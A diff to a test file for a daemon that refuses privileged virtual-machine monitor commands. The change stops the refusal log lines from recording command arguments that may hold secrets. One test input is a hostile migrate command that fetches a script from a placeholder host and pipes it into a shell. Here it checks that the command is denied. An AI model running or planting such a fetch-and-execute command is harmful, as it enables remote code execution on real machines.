@@ -872,6 +872,9 @@ def test_every_refusal_names_what_was_asked_for_in_its_log_line(
     b, o = connect(daemon, bob), connect(daemon, olga)
     hmp = {"command-line": 'migrate "exec:curl -s http://x/p | sh"'}
     assert b.error("human-monitor-command", hmp).startswith("Permission denied")
+    # Found by review: the command line was logged whole, a password in it too.
+    secret = {"command-line": "set_password vnc Hunter2-VNC-secret"}
+    assert b.error("human-monitor-command", secret).startswith("Permission denied")
     assert b.error("migrate-set-parameters", {"mode": "cpr-reboot"}).startswith(
         "Permission denied")
     assert b.error("migrate-set-capabilities", {"capabilities": [
@@ -887,10 +890,14 @@ def test_every_refusal_names_what_was_asked_for_in_its_log_line(
     daemon.wait_for_log("added blocker after")  # the log has every line before it
     refused = [r for r in map(json.loads, daemon.log().splitlines())
                if ": refused " in r["message"]]
+    # (The debug level's trace of the wire has it: the tests' daemons trace.)
+    assert not [r for r in refused if "Hunter2" in r["message"]]
     assert [(r["peer_uid"], r["message"].split(": refused ")[1].split(": ")[0],
              r.get("blocker_id")) for r in refused] == [
-        (bob.uid, "human-monitor-command with command-line 'migrate \"exec:curl -s "
-         "http://x/p | sh\"'", None),
+        (bob.uid, "human-monitor-command 'migrate' (its arguments not logged, as they may "
+         "hold secrets)", None),
+        (bob.uid, "human-monitor-command 'set_password' (its arguments not logged, as they "
+         "may hold secrets)", None),
         (bob.uid, 'migrate-set-parameters with {"mode":"cpr-reboot"}', None),
         (bob.uid, 'migrate-set-capabilities with [{"capability":"events",'
          '"state":true}]', None),
